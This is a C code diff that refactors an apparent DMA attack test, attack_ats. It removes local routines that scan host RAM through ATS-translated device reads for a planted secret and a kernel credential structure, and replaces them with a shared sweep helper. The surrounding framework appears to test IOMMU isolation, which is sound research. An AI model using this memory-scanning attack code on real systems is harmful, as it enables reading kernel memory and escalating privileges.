@@ -48,55 +48,6 @@
 #include "kernel/machine.h"
 #include "kernel/targets.h"
 
-#define BLOCK (64u << 10)
-
-struct found {
-	uint64_t secret, cred;	/* physical addresses, 0: not found */
-};
-
-static void search(const uint8_t *blk, size_t n, uint64_t base,
-		   struct found *f)
-{
-	const size_t ml = strlen(TARGET_SECRET_MAGIC);
-	struct kcred want = { 1, 1000, 1000, 1000, 1000, 1000, 1000, 1000, 1000 };
-
-	for (size_t off = 0; off + sizeof(want) <= n; off += 64) {
-		if (!f->secret && off % 4096 == 0 && off + ml <= n &&
-		    !memcmp(blk + off, TARGET_SECRET_MAGIC, ml))
-			f->secret = base + off;
-		if (!f->cred && blk[off] == 1 &&
-		    !memcmp(blk + off, &want, sizeof(want)))
-			f->cred = base + off;
-	}
-}
-
-static uint64_t ram_top(struct atk_ctx *c)
-{
-	const struct ram *ram = &c->m->ram;
-
-	return ram->nr_ranges ? ram->ranges[ram->nr_ranges - 1].end : 0;
-}
-
-/* Translated reads of RAM from 0, a block at a time, until both are
- * found; the blocks read and those that answered. */
-static void sweep_translated(struct atk_ctx *c, struct found *f,
-			     uint64_t *blocks, uint64_t *answered)
-{
-	uint8_t *blk = malloc(BLOCK);
-	uint64_t top = ram_top(c);
-	size_t done;
-
-	if (!blk)
-		return;
-	for (uint64_t a = 0; a < top && !(f->secret && f->cred); a += BLOCK) {
-		atk_read_translated(c, a, blk, BLOCK, &done);
-		(*blocks)++;
-		*answered += done != 0;
-		search(blk, done, a, f);
-	}
-	free(blk);
-}
-
 static void report_kernel(struct atk_ctx *c, const struct targets *t)
 {
 	const struct pci_dev *p = c->pdev;
@@ -144,7 +95,7 @@ static void untranslated_probe(struct atk_ctx *c, const struct targets *t)
 }
 
 static void verdict(struct atk_ctx *c, const struct targets *t,
-		    const struct found *f)
+		    const struct atk_found *f)
 {
 	if (targets_cred_is_root(t))
 		atk_verdict(c, "ATTACK SUCCEEDED: translated requests reached RAM: secret read, credential is root");
@@ -158,7 +109,7 @@ static void verdict(struct atk_ctx *c, const struct targets *t,
 int attack_ats(struct atk_ctx *c)
 {
 	struct targets t;
-	struct found f = { 0, 0 };
+	struct atk_found f = { 0, 0 };
 	uint64_t blocks = 0, answered = 0;
 	uint32_t zero[8] = { 0 };
 	int ret = targets_create(c->m, TARGET_SECRET | TARGET_CRED, 6, &t);
@@ -173,7 +124,7 @@ int attack_ats(struct atk_ctx *c)
 	report_kernel(c, &t);
 	translate_own(c);
 	untranslated_probe(c, &t);
-	sweep_translated(c, &f, &blocks, &answered);
+	atk_sweep(c, atk_read_translated, &f, &blocks, &answered);
 	atk_did(c, "device: translated reads of %llu blocks of 64 KiB from 0, %llu answered",
 		(unsigned long long)blocks, (unsigned long long)answered);
 	if (f.secret)
